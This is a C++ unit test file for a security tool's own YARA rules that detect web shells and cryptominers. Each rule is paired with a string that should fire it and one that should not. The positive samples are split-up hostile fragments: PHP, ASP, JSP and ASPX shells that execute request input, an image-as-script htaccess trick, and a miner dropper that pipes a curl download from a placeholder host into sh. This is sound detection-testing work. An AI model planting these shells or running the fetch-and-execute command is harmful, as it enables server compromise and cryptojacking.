// Our own YARA rules, on look-alikes by recipe: each fires on what it is for and not on its like.
// A rule without both examples fails here. Dangerous words are split, so that this file is none.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <memory>
#include <set>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "agent/match/yara/embedded_rules.h"
#include "agent/match/yara/rule_meta.h"
#include "agent/match/yara/yara_rules.h"
#include "agent/match/yara/yara_scanner.h"

namespace konseki::yara {
namespace {

const std::string kPhp = std::string("<") + "?php ";
const std::string kPage = std::string("<") + "% ";
const std::string kPageEnd = std::string(" %") + ">";
const std::string kPost = std::string("$_PO") + "ST";
const std::string kEval = std::string("ev") + "al";
const std::string kProgram = std::string("MZ") + std::string(62, '\0');

std::string wide(std::string_view text) {
  std::string out;
  for (const char c : text) out += {c, '\0'};
  return out;
}

struct Example {
  std::string rule;
  std::string hit;
  std::string miss;
};

std::vector<Example> webshell_examples() {
  return {
      {"webshell_family_names", kPhp + "/* c99" + "shell, a web" + "shell */",
       kPhp + "/* protects from c99" + "shell */"},
      {"webshell_php_input_run", kPhp + "@" + kEval + "(stripslashes(" + kPost + "['a']));",
       kPhp + "echo medi" + kEval + "(" + kPost + "['a']);"},
      {"webshell_php_input_names_function", kPhp + kPost + "['a'](" + kPost + "['b']);",
       kPhp + "$list[" + kPost + "['a']](1);"},
      {"webshell_php_packed_run",
       kPhp + kEval + "(gzinflate(base64_decode('" + std::string(60, 'A') + "')));",
       kPhp + "$icon = base64_decode('" + std::string(60, 'A') + "');"},
      {"webshell_asp_request_run", kPage + kEval + " request(\"a\")" + kPageEnd,
       kPage + "Response.Write Request(\"a\")" + kPageEnd},
      {"webshell_jsp_request_run",
       kPage + "Runtime.getRun" + "time().exec(request.getParameter(\"a\"));" + kPageEnd,
       kPage + "Runtime.getRun" + "time().exec(\"uptime\");" + kPageEnd},
      {"webshell_jsp_classes_from_request",
       kPage + "! class U extends ClassLoader{Class g(byte[] b){return defineCl" +
           "ass(b,0,b.length);}} new U().g(Base64.decode(request.getParameter(\"a\")));" + kPageEnd,
       kPage + "! class U extends ClassLoader{} out.print(request.getParameter(\"a\"));" +
           kPageEnd},
      {"webshell_aspx_assembly_from_request",
       kPage + "@ Page Language=\"C#\"" + kPageEnd + kPage + "System.Reflection.Assem" +
           "bly.Load(Convert.FromBase64String(Request[\"a\"]));" + kPageEnd,
       kPage + "@ Page Language=\"C#\"" + kPageEnd + kPage +
           "Image i = Parse(Convert.FromBase64String(Request[\"a\"]));" + kPageEnd},
      {"webshell_htaccess_picture_as_script",
       "Options -Indexes\nAddType application/x-httpd-" + std::string("php .jpg\n"),
       "AddType application/x-httpd-" + std::string("php .php\n")},
      {"webshell_settings_prepend_picture", "auto_pre" + std::string("pend_file = \"logo.gif\"\n"),
       "auto_pre" + std::string("pend_file = \"prelude.php\"\n")},
  };
}

std::vector<Example> miner_examples() {
  const std::string stratum = std::string("stra") + "tum+tcp://";
  const std::string library = std::string("\x7f") + "ELF" + std::string(60, '\0');
  return {
      {"miner_hider_library",
       library + std::string("readdir\0dlsym\0", 14) + "process_to_" + "filter",
       library + std::string("readdir\0dlsym\0", 14) + "/proc/self/fd/%d"},
      {"miner_stratum_client", kProgram + stratum + "a job_id mining.sub" + "mit",
       kProgram + "about " + stratum + " in a browser's list of schemes"},
      {"miner_randomx_cpu",
       kProgram + "donate-" + "level randomx max-threads-hint rig-id cn-heavy cn-pico",
       kProgram + "randomx cn-heavy"},
      {"miner_msr_driver", kProgram + wide("\\Device\\WinRing0" + std::string("_1_2_0")),
       kProgram + wide("\\Device\\Other_1_2_0")},
      {"miner_dropper_script",
       "#!/bin/sh\ncu" + std::string("rl -s http://a.invalid/x | sh\nmodprobe m") +
           "sr\nsysctl -w vm.nr_huge" + "pages=128\n",
       "#!/bin/sh\ncu" + std::string("rl -s http://a.invalid/install | sh\n")},
  };
}

std::set<std::string> rules_of(std::string_view set_name) {
  std::set<std::string> names;
  for (const RuleFile& file : rule_files(embedded_rules(set_name))) {
    const std::string_view text = file.bytes;
    for (std::size_t at = text.find("\nrule "); at != std::string_view::npos;
         at = text.find("\nrule ", at + 1)) {
      const std::size_t begin = at + 6;
      names.emplace(text.substr(begin, text.find_first_of(" \n:{", begin) - begin));
    }
  }
  return names;
}

std::vector<std::string> fired(const YaraRules& rules, const std::string& content) {
  YaraScanner scanner(30);
  std::vector<std::string> names;
  ScanFacts facts;
  facts.file_name = "a";
  facts.file_path = "/a";
  for (const RuleSet* set : rules.all_sets()) {
    const auto outcome = scanner.scan(*set, std::as_bytes(std::span(content)), facts);
    EXPECT_TRUE(outcome.has_value());
    if (!outcome) continue;
    for (const RuleHit& hit : outcome->hits) names.push_back(hit.rule);
  }
  return names;
}

void check(std::string_view set_name, const std::vector<Example>& examples) {
  const auto rules = YaraRules::load(rule_files(embedded_rules(set_name)));
  ASSERT_TRUE(rules.has_value());
  std::set<std::string> named;
  for (const Example& example : examples) {
    SCOPED_TRACE(example.rule);
    named.insert(example.rule);
    EXPECT_FALSE(example.miss.empty());
    EXPECT_THAT(fired(**rules, example.hit), testing::Contains(example.rule));
    EXPECT_THAT(fired(**rules, example.miss), testing::Not(testing::Contains(example.rule)));
  }
  EXPECT_EQ(named, rules_of(set_name)) << "a rule has no examples here, or an example no rule";
}

TEST(OwnRules, WebshellRulesHaveTrueAndFalseExamples) { check("webshell", webshell_examples()); }

TEST(OwnRules, MinerRulesHaveTrueAndFalseExamples) { check("miner", miner_examples()); }

}  // namespace
}  // namespace konseki::yara
